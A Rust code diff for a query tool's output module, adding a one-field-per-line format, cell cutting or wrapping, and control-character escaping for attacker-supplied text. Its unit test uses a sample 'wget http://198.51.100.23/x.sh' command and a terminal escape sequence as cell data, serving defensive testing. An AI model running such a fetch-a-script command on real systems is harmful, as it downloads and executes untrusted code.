@@ -1,6 +1,6 @@
-//! Writing query results for people and programs: an aligned terminal table (attacker text
-//! stripped of control characters, long cells cut), CSV safe to open in a spreadsheet, and
-//! JSON lines. Cell values come from polars `AnyValue`s.
+//! Writing query results for people and programs: an aligned terminal table or one line per
+//! field (attacker text stripped of control characters; long cells cut, or wrapped), CSV safe
+//! to open in a spreadsheet, and JSON lines. Cell values come from polars `AnyValue`s.
 
 use std::io::Write;
 
@@ -30,52 +30,107 @@ fn rows(df: &DataFrame) -> impl Iterator<Item = Vec<Option<String>>> + '_ {
     (0..df.height()).map(move |i| df.get(i).unwrap_or_default().iter().map(cell).collect())
 }
 
-/// Output formats of `query` (and `timeline`).
+/// Output formats of `query`: an aligned table, one `column = value` line per field with a
+/// blank line between records (`line`, like DuckDB's `.mode line`), CSV, JSON lines.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 pub enum Format {
     Table,
+    Line,
     Csv,
     Json,
 }
 
-pub fn write(df: &DataFrame, format: Format, out: &mut dyn Write) -> std::io::Result<()> {
+/// How text cells are shown in the table and line formats.
+#[derive(Debug, Clone, Copy)]
+pub struct Cells {
+    /// Longest line of a cell, in characters.
+    pub max_width: usize,
+    /// Wrap longer cells (and show their line breaks) instead of cutting them with `…`.
+    pub wrap: bool,
+}
+
+impl Default for Cells {
+    fn default() -> Self {
+        Cells { max_width: 60, wrap: false }
+    }
+}
+
+impl Cells {
+    /// A cell's display lines: control characters escaped; cut to `max_width` with `…`, or,
+    /// with `wrap`, split at its line breaks and every `max_width` characters.
+    pub fn lines(&self, text: &str) -> Vec<String> {
+        let w = self.max_width.max(2);
+        if !self.wrap {
+            let s = sanitize::terminal(text).into_owned();
+            return vec![if s.chars().count() > w { s.chars().take(w - 1).collect::<String>() + "…" } else { s }];
+        }
+        let mut out = Vec::new();
+        for part in text.split('\n') {
+            let s: Vec<char> = sanitize::terminal(part.strip_suffix('\r').unwrap_or(part)).chars().collect();
+            if s.is_empty() {
+                out.push(String::new());
+            }
+            for chunk in s.chunks(w) {
+                out.push(chunk.iter().collect());
+            }
+        }
+        out
+    }
+}
+
+pub fn write(df: &DataFrame, format: Format, cells: Cells, out: &mut dyn Write) -> std::io::Result<()> {
     match format {
-        Format::Table => write_table(df, out, 60),
+        Format::Table => write_table(df, out, cells),
+        Format::Line => write_lines(df, out, cells),
         Format::Csv => write_csv(df, out),
         Format::Json => write_jsonl(df, out),
     }
 }
 
-pub fn write_table(df: &DataFrame, out: &mut dyn Write, max_width: usize) -> std::io::Result<()> {
-    let names: Vec<String> = df.get_column_names().iter().map(|s| s.to_string()).collect();
-    let body: Vec<Vec<String>> = rows(df)
-        .map(|r| {
-            r.into_iter()
-                .map(|c| {
-                    let s = sanitize::terminal(c.as_deref().unwrap_or("")).into_owned();
-                    if s.chars().count() > max_width {
-                        s.chars().take(max_width - 1).collect::<String>() + "…"
-                    } else {
-                        s
-                    }
-                })
-                .collect()
-        })
-        .collect();
+pub fn write_table(df: &DataFrame, out: &mut dyn Write, cells: Cells) -> std::io::Result<()> {
+    let names: Vec<String> = df.get_column_names().iter().map(|s| sanitize::terminal(s).into_owned()).collect();
+    let body: Vec<Vec<Vec<String>>> =
+        rows(df).map(|r| r.into_iter().map(|c| cells.lines(c.as_deref().unwrap_or(""))).collect()).collect();
     let mut widths: Vec<usize> = names.iter().map(|n| n.chars().count()).collect();
     for r in &body {
         for (w, c) in widths.iter_mut().zip(r) {
-            *w = (*w).max(c.chars().count());
+            *w = (*w).max(c.iter().map(|l| l.chars().count()).max().unwrap_or(0));
         }
     }
-    let line = |cells: &[String], out: &mut dyn Write| -> std::io::Result<()> {
+    let line = |cells: &[&str], out: &mut dyn Write| -> std::io::Result<()> {
         let parts: Vec<String> = cells.iter().zip(&widths).map(|(c, w)| format!("{c:<w$}")).collect();
         writeln!(out, "{}", parts.join("  ").trim_end())
     };
-    line(&names, out)?;
-    line(&widths.iter().map(|w| "-".repeat(*w)).collect::<Vec<_>>(), out)?;
+    line(&names.iter().map(String::as_str).collect::<Vec<_>>(), out)?;
+    let rules: Vec<String> = widths.iter().map(|w| "-".repeat(*w)).collect();
+    line(&rules.iter().map(String::as_str).collect::<Vec<_>>(), out)?;
     for r in &body {
-        line(r, out)?;
+        // A wrapped row takes as many lines as its tallest cell.
+        let height = r.iter().map(Vec::len).max().unwrap_or(1).max(1);
+        for k in 0..height {
+            let row: Vec<&str> = r.iter().map(|c| c.get(k).map_or("", String::as_str)).collect();
+            line(&row, out)?;
+        }
+    }
+    writeln!(out, "({} rows)", df.height())
+}
+
+/// One `column = value` line per field, a blank line between records; long values wrap under
+/// their first line when `cells.wrap`.
+pub fn write_lines(df: &DataFrame, out: &mut dyn Write, cells: Cells) -> std::io::Result<()> {
+    let names: Vec<String> = df.get_column_names().iter().map(|s| sanitize::terminal(s).into_owned()).collect();
+    let w = names.iter().map(|n| n.chars().count()).max().unwrap_or(0);
+    for (i, r) in rows(df).enumerate() {
+        if i > 0 {
+            writeln!(out)?;
+        }
+        for (name, c) in names.iter().zip(r) {
+            let lines = cells.lines(c.as_deref().unwrap_or(""));
+            writeln!(out, "{name:>w$} = {}", lines.first().map_or("", String::as_str))?;
+            for more in lines.iter().skip(1) {
+                writeln!(out, "{:>w$}   {more}", "")?;
+            }
+        }
     }
     writeln!(out, "({} rows)", df.height())
 }
@@ -114,4 +169,23 @@ pub fn write_jsonl(df: &DataFrame, out: &mut dyn Write) -> std::io::Result<()> {
         writeln!(out, "{}", serde_json::Value::Object(obj))?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_cut_or_wrap_and_never_pass_control_characters() {
+        let cut = Cells { max_width: 10, wrap: false };
+        assert_eq!(cut.lines("wget http://198.51.100.23/x.sh"), ["wget http…"]);
+        assert_eq!(cut.lines("a\nb"), ["a\\x0ab"]);
+        let wrap = Cells { max_width: 10, wrap: true };
+        assert_eq!(wrap.lines("wget http://198.51.100.23/x.sh"), ["wget http:", "//198.51.1", "00.23/x.sh"]);
+        assert_eq!(wrap.lines("line one\r\nline\x1b[2J"), ["line one", "line\\x1b[2", "J"]);
+        let df = df!("n" => [1i64, 2], "cmd" => ["ls", "a\nb"]).unwrap();
+        let mut out = Vec::new();
+        write_lines(&df, &mut out, wrap).unwrap();
+        assert_eq!(String::from_utf8(out).unwrap(), "  n = 1\ncmd = ls\n\n  n = 2\ncmd = a\n      b\n(2 rows)\n");
+    }
 }
